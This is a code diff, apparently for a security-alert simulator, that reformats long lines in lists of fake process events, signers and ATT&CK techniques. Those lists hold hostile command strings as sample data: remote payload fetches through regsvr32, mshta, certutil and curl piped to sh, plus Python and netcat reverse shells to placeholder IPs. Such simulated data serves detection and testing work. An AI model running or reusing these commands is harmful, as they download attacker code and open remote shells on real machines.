@@ -127,7 +127,8 @@ _WIN_LEAVES = [
      "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {b64}"),
     ("cmd.exe", r"C:\Windows\System32\cmd.exe", 'cmd.exe /c "whoami /all > %TEMP%\\{n}.txt"'),
     ("rundll32.exe", r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\ProgramData\{n}\update.dll,DllRegister"),
-    ("regsvr32.exe", r"C:\Windows\System32\regsvr32.exe", "regsvr32.exe /s /n /u /i:http://198.51.100.{o}/a.sct scrobj.dll"),
+    ("regsvr32.exe", r"C:\Windows\System32\regsvr32.exe",
+     "regsvr32.exe /s /n /u /i:http://198.51.100.{o}/a.sct scrobj.dll"),
     ("mshta.exe", r"C:\Windows\System32\mshta.exe", "mshta.exe http://203.0.113.{o}/payload.hta"),
     ("certutil.exe", r"C:\Windows\System32\certutil.exe",
      r"certutil.exe -urlcache -split -f http://192.0.2.{o}/tool.exe C:\Users\Public\{n}.exe"),
@@ -153,7 +154,8 @@ _WIN_ROOTS = [
 _LNX_LEAVES = [
     ("bash", "/usr/bin/bash", "bash -c 'curl -fsSL http://198.51.100.{o}/i.sh | sh'"),
     ("curl", "/usr/bin/curl", "curl -o /tmp/.{n} http://203.0.113.{o}/x"),
-    ("python3", "/usr/bin/python3.11", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.{o}\",4444))'"),
+    ("python3", "/usr/bin/python3.11",
+     "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.{o}\",4444))'"),
     ("nc", "/usr/bin/nc.openbsd", "nc -e /bin/sh 192.0.2.{o} 4444"),
     ("crontab", "/usr/bin/crontab", "crontab /tmp/.cron{n}"),
 ]
@@ -176,7 +178,8 @@ _SIGNERS = [("Microsoft Windows Production PCA 2011", "Microsoft Windows"),
             ("Microsoft Code Signing PCA 2011", "Microsoft Corporation")]
 
 _TECHNIQUES = [
-    ("T1059.001", "Command and Scripting Interpreter: PowerShell"), ("T1218.011", "System Binary Proxy Execution: Rundll32"),
+    ("T1059.001", "Command and Scripting Interpreter: PowerShell"),
+    ("T1218.011", "System Binary Proxy Execution: Rundll32"),
     ("T1218.010", "System Binary Proxy Execution: Regsvr32"), ("T1218.005", "System Binary Proxy Execution: Mshta"),
     ("T1105", "Ingress Tool Transfer"), ("T1053.005", "Scheduled Task/Job: Scheduled Task"),
     ("T1136.001", "Create Account: Local Account"), ("T1204.002", "User Execution: Malicious File"),
@@ -728,7 +731,8 @@ class Simulator:
             raise ValueError(f"late_fraction must be between 0 and 1, not {late_fraction}")
         self.seed = seed
         self.api_key = api_key
-        self.live_rate, self.late_fraction, self.late_by, self.live_total = live_rate, late_fraction, late_by, live_total
+        self.live_rate, self.late_fraction, self.late_by = live_rate, late_fraction, late_by
+        self.live_total = live_total
         self.bare = bare
         end_ms = _to_ms(end) if end is not None else _now_ms()
         self.data = _Data(seed, alerts, intel_docs, revisions, hosts, end_ms, int(history * 1000))
@@ -1214,7 +1218,8 @@ def _sort_keys(params: list[tuple[str, str]]) -> list[tuple[str, bool]]:
             desc = col.startswith("-")
             col = col.lstrip("+-")
             if col not in ALERT_FIELDS or col == "details":
-                raise _BadRequest(f"cannot sort by {col!r}; columns: {', '.join(f for f in ALERT_FIELDS if f != 'details')}")
+                columns = ", ".join(f for f in ALERT_FIELDS if f != "details")
+                raise _BadRequest(f"cannot sort by {col!r}; columns: {columns}")
             keys.append((col, desc))
     return keys
 
